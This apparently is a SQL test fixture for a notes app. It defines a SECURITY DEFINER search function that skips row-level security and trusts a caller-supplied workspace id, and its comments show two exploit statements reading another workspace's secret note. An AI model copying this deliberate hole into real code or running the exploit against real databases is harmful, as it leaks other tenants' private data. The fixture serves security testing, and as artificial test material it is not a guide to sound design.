-- The search function runs as its owner and takes the workspace from the caller without a check.
-- about: search_notes
-- as: hf_notes_app
-- exploit: SET request.jwt.claims = '{"sub": "aaaaaaaa-aaaa-aaaa-aaaa-aaaaaaaaaaaa"}';
-- exploit: SELECT * FROM search_notes('22222222-2222-2222-2222-222222222222', 'merger');
-- shows: Road-secret merger
-- A definer, because the planner does not use the index under row security.
CREATE INDEX notes_search_idx ON notes USING gin (search);
CREATE FUNCTION search_notes(ws uuid, words text) RETURNS TABLE (id uuid, title text)
LANGUAGE sql STABLE SECURITY DEFINER SET search_path = public, pg_temp AS $$
  SELECT n.id, n.title FROM notes n
  WHERE n.workspace_id = ws AND n.search @@ plainto_tsquery('simple', words)
$$;
GRANT EXECUTE ON FUNCTION search_notes(uuid, text) TO hf_notes_app;
